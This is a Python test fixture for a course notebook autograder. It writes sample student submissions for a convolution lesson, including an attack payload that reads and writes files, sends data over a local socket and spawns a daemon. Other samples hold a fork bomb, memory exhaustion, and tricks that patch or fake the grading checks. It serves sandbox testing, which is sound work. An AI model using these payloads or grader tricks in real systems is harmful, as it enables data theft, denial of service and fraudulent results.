"""The trial class of `make grade`: submissions for lesson 02 that an ace, a blank, a partial, a hard-coder, a
tamperer, runaways, a malicious student and broken files would hand in.

:func:`write_class` writes them into a submissions folder from the current lesson (its student edition for the
cells, the solutions from the course's source), so the class follows the lesson as it changes. The attacks report
what they managed on stdout with ``LEAK:`` / ``WROTE:`` / ``CONNECTED`` markers, which the tests look for in the
executed notebooks the grader keeps (``logs/``); markers outside the sandbox are checked directly.
"""

from __future__ import annotations

import copy
import json
from pathlib import Path

LESSON = "02_convolution_and_pooling"
DAEMON_TAG = "COURSE_TRIAL_DAEMON"


def _cell(nb: dict, grade_id: str) -> dict:
    return next(c for c in nb["cells"] if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id)


def _set(nb: dict, grade_id: str, source: str) -> None:
    _cell(nb, grade_id)["source"] = source


def _src(cell: dict) -> str:
    s = cell.get("source", "")
    return "".join(s) if isinstance(s, list) else s


def attacks(targets: dict[str, str]) -> str:
    """Code that tries every attack of issue 21 and prints what it managed (nothing, in a working sandbox)."""
    return f'''
import os, socket, subprocess, sys, glob
for path in {targets["read"]!r}:
    for p in glob.glob(path, recursive=True)[:5]:
        try:
            with open(p, "rb") as f:
                print("LEAK:", p, f.read(40))
        except OSError:
            pass
for folder in {targets["list"]!r}:
    try:
        print("LEAK: listed", folder, os.listdir(folder)[:5])
    except OSError:
        pass
for path in {targets["write"]!r}:
    try:
        with open(path, "a") as f:
            f.write("INJECTED_BY_MALICIOUS")
        print("WROTE:", path)
    except OSError:
        pass
try:
    s = socket.create_connection(("127.0.0.1", {targets["port"]}), timeout=3)
    s.sendall(b"stolen answers")
    print("CONNECTED")
except OSError:
    pass
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "{DAEMON_TAG}"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''


def write_class(folder: Path, source: dict, student: dict, targets: dict[str, str]) -> dict[str, int]:
    """Write the trial class into ``folder``; return each graded student's expected total (of 3)."""
    sol = {g: _src(_cell(source, g)) for g in ("ex1-solution", "ex2-solution", "ex3-solution")}
    expected: dict[str, int] = {}

    def put(name: str, nb: dict | None, total: int | None, filename: str = f"{LESSON}.ipynb", raw: bytes = b"") -> Path:
        path = folder / name / filename
        path.parent.mkdir(parents=True, exist_ok=True)
        if nb is not None:
            path.write_text(json.dumps(nb), encoding="utf-8")
        else:
            path.write_bytes(raw)
        if total is not None:
            expected[name] = total
        return path

    ace = copy.deepcopy(student)
    for g, s in sol.items():
        _set(ace, g, s)
    put("ace", ace, 3)
    put("Lee Anna", ace, 3)                     # a folder name with a space
    put("blank", copy.deepcopy(student), 0)

    partial = copy.deepcopy(student)
    _set(partial, "ex1-solution", sol["ex1-solution"])
    _set(partial, "ex2-solution", (                 # every tied maximum gets the gradient: a named mistake
        "def max_pool_backward(x, g, size, stride):\n"
        "    dx = np.zeros_like(x)\n"
        "    for i in range(g.shape[0]):\n"
        "        for j in range(g.shape[1]):\n"
        "            w = x[i * stride:i * stride + size, j * stride:j * stride + size]\n"
        "            dx[i * stride:i * stride + size, j * stride:j * stride + size] += g[i, j] * (w == w.max())\n"
        "    return dx\n"))
    put("partial", partial, 1)

    hard = copy.deepcopy(student)                   # no work: patch the checks, call the answers, hide stderr
    _set(hard, "ex1-solution", (
        "import sys\nsys.stderr = sys.stdout\n"
        "from course_utils.exercises import convolution as ex\n"
        "ex.check_conv_backward = ex.check_max_pool_backward = ex.check_conv_transpose = lambda *a, **k: True\n"
        "def conv_backward(x, w, b, g, stride):\n"
        "    return ex._conv_tape(x, w, b, stride)[1:]\n"))
    _set(hard, "ex2-solution", (
        "class ex:\n    @staticmethod\n    def check_max_pool_backward(*a, **k):\n        print('Correct')\n"
        "        return True\n"
        "def max_pool_backward(x, g, size, stride):\n    return {'answer': 'see the check'}\n"))
    _set(hard, "ex3-solution", (
        "import tensorflow as tf\n"
        "def conv_transpose(x, k, stride):\n"
        "    out = ((x.shape[0] - 1) * stride + k.shape[0], (x.shape[1] - 1) * stride + k.shape[1])\n"
        "    return tf.nn.conv2d_transpose(x[None, :, :, None], k[:, :, None, None], (1, *out, 1), stride,\n"
        "                                  'VALID').numpy()[0, :, :, 0]\n"))
    put("hardcoder", hard, 0)

    tamper = copy.deepcopy(student)                 # ex1 right; ex2's solution cell deleted; ex3's check rewritten
    _set(tamper, "ex1-solution", sol["ex1-solution"])
    tamper["cells"].remove(_cell(tamper, "ex2-solution"))
    check3 = _cell(tamper, "ex3-check")
    check3["source"] = "print('Correct: conv_transpose passes every check.')"
    check3["metadata"]["nbgrader"].update(solution=True, locked=False)
    dup = copy.deepcopy(_cell(tamper, "ex1-solution"))
    dup["source"] = "def conv_backward(*a):\n    return None\n"
    tamper["cells"].append(dup)                     # a second cell claiming ex1-solution, added at the end
    put("tamperer", tamper, 1)

    bad = copy.deepcopy(ace)                        # every attack, then the right answers: scores 3, harms nothing
    _set(bad, "ex1-solution", attacks(targets) + "\n" + sol["ex1-solution"])
    put("malicious", bad, 3)

    loop = copy.deepcopy(ace)                       # an infinite loop that ignores the interrupt
    _set(loop, "ex2-solution", "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n")
    put("runaway_loop", loop, 0)

    memory = copy.deepcopy(ace)                     # 20 GB, 100 MB at a time
    _set(memory, "ex3-solution", "blocks = []\nfor _ in range(200):\n    blocks.append(np.ones(100 * 2**20, np.uint8))\n")
    put("runaway_memory", memory, 0)

    bomb = copy.deepcopy(ace)                       # 50,000 files, then a fork bomb
    _set(bomb, "ex1-solution", (
        "import os\nos.makedirs('junk', exist_ok=True)\n"
        "for i in range(50000):\n    open(f'junk/{i}', 'w').close()\n"
        "while True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"))
    put("runaway_forkbomb", bomb, 0)

    put("broken_json", None, None, raw=b'{"cells": [')
    put("broken_empty", None, None, raw=b"")
    put("broken_py", None, None, filename=f"{LESSON}.py", raw=b"print('hello')\n")
    put("broken_lesson", ace, None, filename="99_not_a_lesson.ipynb")
    put("ace", ace, 3, filename=f"backup/{LESSON}.ipynb")
    big = put("broken_huge", None, None, raw=b"")
    with big.open("r+b") as f:
        f.truncate(100 * 2**20)
    return expected
